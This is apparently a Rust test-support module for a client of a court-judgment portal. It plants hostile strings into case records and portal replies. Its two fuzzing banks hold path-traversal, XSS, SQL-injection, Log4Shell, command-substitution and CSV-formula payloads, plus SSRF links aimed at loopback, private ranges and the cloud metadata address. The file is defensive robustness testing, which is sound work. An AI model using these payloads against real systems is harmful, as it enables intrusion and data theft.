//! Texts and addresses that a portal should never give, and a client must survive.

use crate::case::Case;
use crate::cases::CaseFile;
use crate::forge;
use crate::json;
use crate::markup;
use crate::reply::Reply;
use crate::trouble::Fault;

/// Puts a hostile text into what a row prints.
pub(crate) fn spoil(fault: &Fault, case: &mut Case) {
    let text = forge::text_of(fault);
    match fault.form() {
        "respondent" => case.respondent = text,
        "judge" => case.judges = vec![text],
        "number" => case.number = text,
        "disposal" => case.disposal = Some(text),
        "cnr" => case.cnr = text,
        "path" => case.path = text,
        "court" => case.court = text,
        _ => case.petitioner = text,
    }
}

/// Puts a hostile text into the reply of a portal of cases: in place of each CNR, or, `form = "name"`, of the names of
/// the case's own parties.
pub(crate) fn spoil_cases(fault: &Fault, reply: &mut Reply, file: Option<&CaseFile>) {
    let Ok(body) = std::str::from_utf8(&reply.body) else {
        return;
    };
    // As deep as the reply's texts lie: markup alone, a page in JSON, JSON in JSON.
    let packed = body.trim_start_matches('\u{feff}');
    let depth = if packed.starts_with("{\"con\":[\"[") {
        2
    } else {
        usize::from(packed.starts_with(['{', '[']))
    };
    let inner = |text: String| {
        let text = json::string(&text);
        text.get(1..text.len() - 1).unwrap_or("").to_owned()
    };
    let text = (0..depth).fold(markup::escape_all(&forge::text_of(fault)), |text, _| {
        inner(text)
    });
    let spoilt = match (fault.form(), file) {
        ("name", Some(file)) => {
            let parties = file.petitioners.iter().chain(&file.respondents);
            let names = parties.map(|party| markup::escape(&party.name));
            names.fold(body.to_owned(), |body, name| body.replace(&name, &text))
        }
        ("name", None) => return,
        _ => without_cnrs(body, &text),
    };
    reply.body = spoilt.into();
}

/// `body` with `text` where a CNR stood, with hyphens or without.
fn without_cnrs(body: &str, text: &str) -> String {
    let is_cnr = |word: &str| {
        let bare: Vec<u8> = word.bytes().filter(|byte| *byte != b'-').collect();
        bare.len() == 16
            && bare.iter().take(4).all(u8::is_ascii_uppercase)
            && bare.iter().skip(6).all(u8::is_ascii_digit)
    };
    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '-';
    let mut spoilt = String::with_capacity(body.len());
    let mut rest = body;
    while let Some(start) = rest.find(is_part) {
        let (before, from) = rest.split_at(start);
        let (word, behind) = from.split_at(from.find(|c| !is_part(c)).unwrap_or(from.len()));
        spoilt.push_str(before);
        spoilt.push_str(if is_cnr(word) { text } else { word });
        rest = behind;
    }
    spoilt.push_str(rest);
    spoilt
}

/// Texts that are no use as file names, keys or printed lines: traversal, device names, control
/// characters, very long and very odd ones.
pub fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "../../../../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\config",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\192.0.2.1\\share\\x",
        "file:///etc/passwd",
        "~root/.ssh/id_rsa",
        ".",
        "..",
        "...",
        "CON",
        "NUL.pdf",
        "aux",
        "COM1",
        "LPT9.txt",
        "-rf",
        "--help",
        "name.pdf ",
        "name.",
        "a/b",
        "a\\b",
        "a:b",
        "a*b?c<d>e|f\"g",
        "%2e%2e%2f%2e%2e%2fetc",
        "..%c0%af..%c0%afetc",
        "a\u{0}b",
        "\u{0}",
        "a\u{1}\u{2}\u{7f}b",
        "a\r\nSet-Cookie: x=y",
        "a\tb\u{b}c\u{c}d",
        "a\u{85}b\u{2028}c\u{2029}d",
        "\u{202e}fdp.exe",
        "\u{2066}left\u{2069}",
        "zero\u{200b}width\u{200d}join\u{feff}er",
        "\u{feff}mark first",
        "\u{fffd}\u{fffd}\u{fffd}",
        "\u{1f4a5}\u{1f1ee}\u{1f1f3}",
        "प्रार्थी बनाम राज्य",
        "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "İstanbul ẞ ﬁ Ǆ",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "';alert(1)//",
        "</font></strong><button onclick=javascript:open_pdf('0','','x#');>",
        "&lt;b&gt; &#0; &#x110000; &amp;amp;",
        "<!-- ",
        "]]>",
        "' OR '1'='1' --",
        "'; DROP TABLE rows; --",
        "${jndi:ldap://192.0.2.1/x}",
        "{{7*7}}",
        "$(id)",
        "`id`",
        "=cmd|' /C calc'!A0",
        "\"quoted\",\"csv\"",
        "title:* AND (NOT x",
        "A Vs B Vs C - D - E",
        "null",
        "undefined",
        "NaN",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("x".repeat(4096));
    texts.push("é".repeat(2048));
    texts.push("../".repeat(1000));
    texts.push("word ".repeat(2000));
    texts
}

/// A hundred and some addresses of documents or redirects that lead where a client must not go. Those
/// with a host lead to addresses kept for documentation, or to the machine itself.
pub fn hostile_links() -> Vec<String> {
    const HOSTS: &[&str] = &[
        "192.0.2.1",
        "198.51.100.7:8080",
        "elsewhere.example",
        "127.0.0.1:9",
        "localhost",
        "localhost.",
        "0.0.0.0",
        "0",
        "127.1",
        "2130706433",
        "0x7f000001",
        "017700000001",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::7f00:1]",
        "169.254.169.254",
        "10.0.0.1",
        "192.168.0.1",
        "100.64.0.1",
        "judgments.ecourts.gov.in.elsewhere.example",
        "elsewhere.example#judgments.ecourts.gov.in",
        "judgments.ecourts.gov.in@elsewhere.example",
        "judgments.ecourts.gov.in%00.elsewhere.example",
    ];
    const SHAPES: &[&str] = &["http://H/x.pdf", "https://H/x.pdf", "//H/x.pdf", "@H/x.pdf"];
    let mut links: Vec<String> = HOSTS
        .iter()
        .flat_map(|host| SHAPES.iter().map(move |shape| shape.replace('H', host)))
        .collect();
    links.extend(
        [
            ".elsewhere.example/x.pdf",
            ":9/x.pdf",
            "\\\\192.0.2.1\\x.pdf",
            "/\\192.0.2.1/x.pdf",
            "\\/192.0.2.1/x.pdf",
            "///192.0.2.1/x.pdf",
            "http:192.0.2.1/x.pdf",
            "http:/192.0.2.1/x.pdf",
            "HTTP://192.0.2.1/x.pdf",
            " http://192.0.2.1/x.pdf",
            "\thttp://192.0.2.1/x.pdf",
            "ht\ntp://192.0.2.1/x.pdf",
            "http://user:word@192.0.2.1/x.pdf",
            "file:///etc/passwd",
            "ftp://192.0.2.1/x.pdf",
            "gopher://192.0.2.1/_x",
            "data:application/pdf;base64,JVBERi0=",
            "javascript:alert(1)",
            "/pdfsearch/tmp/../../etc/passwd.pdf",
            "/pdfsearch/tmp/%2e%2e/%2e%2e/etc/passwd.pdf",
            "/pdfsearch/tmp/..%2f..%2fetc%2fpasswd.pdf",
            "/pdfsearch/tmp/..;/x.pdf",
            "/pdfsearch/tmp/x.pdf\u{0}.html",
            "/pdfsearch/tmp/x.pdf?next=http://192.0.2.1/",
            "/pdfsearch/tmp/x.pdf#@192.0.2.1",
            "/pdfsearch/tmp/x.pdf\r\nHost: 192.0.2.1",
            "/pdfsearch/tmp/x y.pdf",
            "/pdfsearch/tmp/",
            "/",
            "",
            "x.pdf",
            "?x.pdf",
        ]
        .map(str::to_owned),
    );
    links.push(format!("/pdfsearch/tmp/{}.pdf", "a".repeat(100_000)));
    links
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_banks_are_large_and_without_repetition() {
        for bank in [hostile_texts(), hostile_links()] {
            let different: std::collections::HashSet<_> = bank.iter().collect();
            assert_eq!(different.len(), bank.len());
            assert!(bank.len() >= 60);
        }
        assert!(hostile_links().len() >= 100);
    }

    #[test]
    fn cnrs_are_replaced_in_both_their_forms() {
        let body = "x('DLHC010000012024') DLHC01-000001-2024 <b>DLHC01000001202</b> WPC-12";
        assert_eq!(
            without_cnrs(body, "é"),
            "x('é') é <b>DLHC01000001202</b> WPC-12"
        );
    }
}
